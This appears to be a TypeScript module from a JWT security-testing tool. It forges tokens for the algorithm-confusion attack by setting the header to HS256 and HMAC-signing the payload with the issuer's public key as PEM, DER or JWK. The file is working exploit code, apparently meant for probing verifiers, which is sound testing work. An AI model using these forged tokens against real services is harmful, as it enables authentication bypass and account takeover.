import { isAsymmetricAlg } from '../keys/alg-compat';
import { selectCandidates } from '../keys/candidates';
import { collectTrafficKeys } from '../keys/collect-keys';
import { serialiseKey } from '../keys/key-serialisations';
import type { KnownKey } from '../keys/types';
import { hmacSign, type ProbeToken, type Tampered, withMembers } from './token-parts';
import type { ProbeMaterial } from './types';

/** Issuer keys tried at most: with four serialisations each, the run stays under its request limit. */
export const MAX_CONFUSION_KEYS = 3;

/**
 * The serialisations a confused verifier most often feeds to HMAC (CVE-2015-9235, CVE-2016-10555): the
 * PEM file as written (with and without its final newline), the DER bytes, and the JWK as published.
 */
const FORMS: readonly { id: string; name: string; label: string }[] = [
  { id: 'pem', name: 'SPKI PEM, LF, trailing newline', label: 'PEM' },
  { id: 'pem-no-newline', name: 'SPKI PEM, LF, no trailing newline', label: 'PEM without final newline' },
  { id: 'der', name: 'SPKI DER bytes', label: 'DER' },
  { id: 'jwk', name: 'JWK JSON as in the key set', label: 'JWK JSON' },
];

/** The issuer keys that could verify the token, from the key sets seen in the capture (kid and issuer first). */
async function issuerKeys(t: ProbeToken, material: ProbeMaterial): Promise<KnownKey[]> {
  const documents = material.keyDocuments.map((doc) => ({ ...doc, requestId: '' }));
  const { keys } = await collectTrafficKeys(documents);
  return selectCandidates(t.parsed, t.alg, keys).tryKeys.slice(0, MAX_CONFUSION_KEYS);
}

function keyName(key: KnownKey, index: number): string {
  return key.kid !== undefined ? `kid "${key.kid}"` : `key ${index + 1} of ${key.source.where}`;
}

/**
 * HS256 tokens whose MAC key is the issuer's public key in each common serialisation: what a verifier that
 * takes the algorithm from the header and hands the configured public key to HMAC accepts (RFC 8725 §2.1).
 * Only for tokens signed with a public-key algorithm, and only with keys seen in the capture.
 */
export async function algConfusionRecipes(t: ProbeToken, material: ProbeMaterial): Promise<Tampered[]> {
  if (!isAsymmetricAlg(t.alg)) return [];
  let keys: KnownKey[];
  try {
    keys = await issuerKeys(t, material);
  } catch {
    return [];
  }
  const header = withMembers(t.header, { alg: 'HS256' });
  const out: Tampered[] = [];
  for (const [index, key] of keys.entries()) {
    const forms = await serialiseKey(key);
    for (const form of FORMS) {
      const bytes = forms.find((f) => f.name === form.name)?.bytes;
      if (!bytes) continue;
      out.push({
        id: `alg-confusion:${form.id}${index === 0 ? '' : `#${index + 1}`}`,
        kind: 'alg-confusion',
        change: `alg set to "HS256", MAC keyed with the issuer's public key (${keyName(key, index)}) as ${form.label}`,
        token: hmacSign(header, t.payloadSegment, bytes),
      });
    }
  }
  return out;
}
